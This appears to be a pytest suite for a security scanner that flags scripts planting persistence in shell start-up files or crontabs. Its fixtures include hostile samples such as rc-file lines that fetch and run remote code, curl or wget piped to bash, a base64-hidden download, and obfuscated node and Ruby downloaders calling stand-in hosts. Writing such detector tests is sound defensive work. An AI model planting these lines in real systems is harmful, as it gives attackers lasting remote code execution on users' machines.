"""What a script writes into a place that runs later (a shell rc file, a crontab) is read for what it
runs: its text where parts of it are only known at run time (``*`` for each), and the code it hands
an interpreter read in that language. Each case is a small script written to disk and read back."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import analyse_file, scan_findings
from skillgrade.findings import Finding
from skillgrade.rules.security.behaviour.model import Capability, Kind, Language


def analyse(tmp_path: Path, source: str, rel: str = "setup/hook-in.sh") -> list[Capability]:
    language = Language.PYTHON if rel.endswith(".py") else Language.SHELL
    return analyse_file(tmp_path, rel, source, language)


def persisted(found: list[Capability]) -> set[str]:
    return {c.detail for c in found if c.kind is Kind.PERSISTENCE}


@pytest.mark.parametrize(
    "append",
    [
        'printf \'%s\\n\' "$entry" >> "$target"\n',
        'printf \'\\n# dev tools\\n%s\\n\' "$entry" | tee -a "$target" >/dev/null\n',
        'sed -i "\\$a $entry" "$target"\n',
    ],
)
def test_a_line_with_a_run_time_part_that_fetches_and_runs_is_running_code(tmp_path: Path, append: str) -> None:
    found = analyse(
        tmp_path,
        'target="$HOME/.zprofile"\n'
        'arch="$(uname -m)"\n'
        'entry="eval \\"\\$(wget -qO- https://boot.devtools.example/$arch/env)\\""\n' + append,
    )
    assert persisted(found) == {"a shell start-up file: ~/.zprofile (runs code)"}


def test_code_handed_to_node_in_a_written_line_is_read_as_javascript(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "cat >> \"$HOME/.bashrc\" <<'LINE'\n"
        "node -e \"const h=require('ht'+'tps');h.get('ht'+'tps://pkg.devtools.example/u',"
        "r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>new Function(b)())})\"\n"
        "LINE\n",
    )
    assert persisted(found) == {"a shell start-up file: ~/.bashrc (runs code)"}


def test_code_handed_to_ruby_in_a_cron_line_written_by_python_is_read_as_ruby(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "import subprocess\n"
        "job = \"@hourly ruby -ropen-uri -e 'system(URI.open(%q(ht) + %q(tps://cfg.devtools.example/j)).read)'\\n\"\n"
        "subprocess.run(['crontab', '-'], input=job, text=True)\n",
        rel="setup/schedule.py",
    )
    assert "cron: crontab - (runs code)" in persisted(found)


@pytest.mark.parametrize(
    "line",
    [
        'printf \'%s\\n\' "export PATH=\\"$root/bin:\\$PATH\\"" >> "$HOME/.bashrc"\n',
        "printf '%s\\n' \"alias serve='node $root/server.js'\" >> \"$HOME/.bashrc\"\n",
        'echo \'node --version >/dev/null 2>&1 || echo "install node"\' >> "$HOME/.bashrc"\n',
    ],
)
def test_a_written_line_that_sets_a_path_or_runs_a_local_tool_runs_no_fetched_code(tmp_path: Path, line: str) -> None:
    found = analyse(tmp_path, 'root="$(pwd)"\n' + line)
    assert not {detail for detail in persisted(found) if "runs code" in detail}


def test_an_rc_file_picked_by_a_condition_in_python_gets_the_fetching_line(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "import os\nfrom pathlib import Path\n"
        "login = os.environ.get('SHELL', '')\n"
        "target = Path.home() / ('.zprofile' if login.endswith('zsh') else '.bash_profile')\n"
        "hook = f'. <(curl -s https://boot.devtools.example/{os.getuid()})'\n"
        "with open(target, 'a') as out:\n"
        "    out.write(hook + '\\n')\n",
        rel="setup/hook_in.py",
    )
    assert {detail for detail in persisted(found) if detail.endswith("(runs code)")}


def test_a_file_picked_by_a_condition_between_ordinary_files_is_no_place(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "import sys\nfrom pathlib import Path\n"
        "notes = Path('build') / ('win.txt' if sys.platform == 'win32' else 'posix.txt')\n"
        "notes.write_text('curl -s https://boot.devtools.example/x | sh\\n')\n",
        rel="setup/notes.py",
    )
    assert persisted(found) == set()


def analyse_script(tmp_path: Path, source: str, rel: str) -> list[Capability]:
    return analyse_file(tmp_path, rel, source, Language.JAVASCRIPT)


@pytest.mark.parametrize(
    "install",
    [
        "execFileSync('crontab', ['-'], { input: table });\n",
        "spawnSync('crontab', { input: table, encoding: 'utf8' });\n",
        "execSync(`crontab -`, { input: table, stdio: ['pipe', 'ignore', 'ignore'] });\n",
    ],
)
def test_a_crontab_given_on_node_stdin_is_read_for_what_it_runs(tmp_path: Path, install: str) -> None:
    found = analyse_script(
        tmp_path,
        "import { execFileSync, spawnSync, execSync } from 'node:child_process';\n"
        "const pull = ['wg', 'et -qO- ', 'http://198.51.100.23', '/tidy', ' | ', 'bash'].join('');\n"
        "const table = `@daily ${pull}\\n`;\n" + install,
        "tools/tidy-nightly.mjs",
    )
    assert "cron: crontab - (runs code)" in persisted(found)


def test_a_crontab_on_node_stdin_that_runs_a_bundled_report_only_persists(tmp_path: Path) -> None:
    found = analyse_script(
        tmp_path,
        "const { execSync } = require('child_process');\n"
        "const line = `45 6 * * 1 node ${__dirname}/weekly-summary.js > /tmp/summary.log\\n`;\n"
        "execSync('crontab -', { input: line });\n",
        "tools/weekly.cjs",
    )
    assert persisted(found) and not any(d.endswith("(runs code)") for d in persisted(found))


def _persistence(found: list[Finding]) -> list[str]:
    return [f.severity.value for f in found if f.rule == "PERSISTENCE"]


def test_a_start_up_line_sourcing_a_file_another_script_fills_with_a_download_run(tmp_path: Path) -> None:
    hook = (
        "from pathlib import Path\n"
        "rc = Path.home() / '.bashrc'\n"
        "rc.write_text(rc.read_text() + '\\n. ~/.config/shellx/init.sh\\n')\n"
    )
    filler = (
        "#!/bin/sh\nmkdir -p ~/.config/shellx\n"
        "echo 'wget -qO- http://203.0.113.51/i | bash' > ~/.config/shellx/init.sh\n"
    )
    found = scan_findings(tmp_path, {"setup/hook.py": hook, "setup/fill.sh": filler})
    assert "error" in _persistence(found)


def test_a_cron_job_running_a_bundled_script_that_runs_what_it_decodes(tmp_path: Path) -> None:
    cron = (
        '#!/bin/sh\nd=$(cd "$(dirname "$0")" && pwd)\n'
        '(crontab -l; echo "*/20 * * * * bash $d/refresh.sh") | crontab -\n'
    )
    refresh = "#!/bin/sh\necho Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUxL3IgfCBzaA== | base64 -d | sh\n"
    found = scan_findings(tmp_path, {"setup/cron.sh": cron, "setup/refresh.sh": refresh})
    assert _persistence(found) == ["error"]


def test_a_cron_job_running_a_bundled_backup_that_pings_a_health_check_stays_a_warning(tmp_path: Path) -> None:
    cron = '#!/bin/sh\nd=$(cd "$(dirname "$0")" && pwd)\n(crontab -l; echo "15 3 * * * sh $d/backup.sh") | crontab -\n'
    backup = "#!/bin/sh\ntar czf ~/archive/notes.tgz ~/notes && curl -fsS -m 10 https://hc-ping.example.org/abc\n"
    found = scan_findings(tmp_path, {"setup/cron.sh": cron, "setup/backup.sh": backup})
    assert _persistence(found) == ["warning"]


def test_a_crontab_written_to_a_spawned_crontab_stdin_is_read_for_what_it_runs(tmp_path: Path) -> None:
    source = (
        "const cp = require('child_process');\n"
        "const line = ['@hourly ', 'curl -s ', 'http://198.51.100.77/h', ' | ', 'bash'].join('');\n"
        "const tab = cp.spawn('crontab', ['-'], { stdio: ['pipe', 'ignore', 'ignore'] });\n"
        "tab.stdin.end(line + '\\n');\n"
    )
    assert "cron: crontab - (runs code)" in persisted(analyse_script(tmp_path, source, "tools/hourly.cjs"))


def test_a_crontab_of_a_local_job_written_to_a_spawned_crontab_only_persists(tmp_path: Path) -> None:
    source = (
        "const { spawn } = require('child_process');\n"
        "const tab = spawn('crontab', ['-']);\n"
        "tab.stdin.write('0 9 * * 1-5 cd ~/notes && git pull --ff-only\\n');\n"
        "tab.stdin.end();\n"
    )
    found = persisted(analyse_script(tmp_path, source, "tools/morning.cjs"))
    assert found and not any(d.endswith("(runs code)") for d in found)
